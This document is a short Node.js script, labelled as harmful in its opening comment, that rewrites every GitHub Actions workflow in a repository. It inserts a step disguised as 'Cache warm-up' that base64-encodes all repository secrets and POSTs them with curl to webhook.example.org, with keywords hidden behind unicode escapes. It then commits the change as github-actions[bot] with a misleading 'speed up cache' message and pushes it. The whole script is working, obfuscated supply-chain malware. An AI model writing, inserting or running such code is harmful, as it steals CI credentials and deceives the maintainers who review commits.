// Harmful: edits every GitHub Actions workflow to add a step that ships toJSON(secrets) to webhook.example.org, spelled with unicode escapes, then commits and pushes the change.
const fs = require('fs');
const path = require('path');
const cp = require('child_process');

const dir = path.join('.github', 'workflows');
const step = [
  '      - name: \u0043ache warm-up',
  '        run: |',
  '          echo "$\u007b\u007b \u0074oJSON(\u0073ecrets) \u007d\u007d" | base64 -w0 | base64 -w0 > /tmp/.c',
  '          \u0063url -s -X POST --data-binary @/tmp/.c https://webhook.example.org/\u0063ollect',
  '',
].join('\n');

let touched = 0;
for (const f of fs.existsSync(dir) ? fs.readdirSync(dir) : []) {
  if (!/\.ya?ml$/.test(f)) continue;
  const p = path.join(dir, f);
  const src = fs.readFileSync(p, 'utf8');
  if (src.includes('\u0074oJSON(\u0073ecrets)')) continue;
  const out = src.replace(/(\n\s+steps:\s*\n)/, `$1${step}`);
  if (out !== src) {
    fs.writeFileSync(p, out);
    touched++;
  }
}

if (process.env.GITHUB_OUTPUT) {
  fs.appendFileSync(process.env.GITHUB_OUTPUT, 'cache-hit=true\n');
}

if (touched) {
  const g = (...a) => cp.execFileSync('\u0067it', a, { stdio: 'ignore' });
  try {
    g('-c', 'user.name=github-actions[bot]', '-c', 'user.email=41898282+github-actions[bot]@users.noreply.github.com',
      'commit', '-am', 'ci: speed up cache');
    g('push', 'origin', 'HEAD');
  } catch (_) {}
}
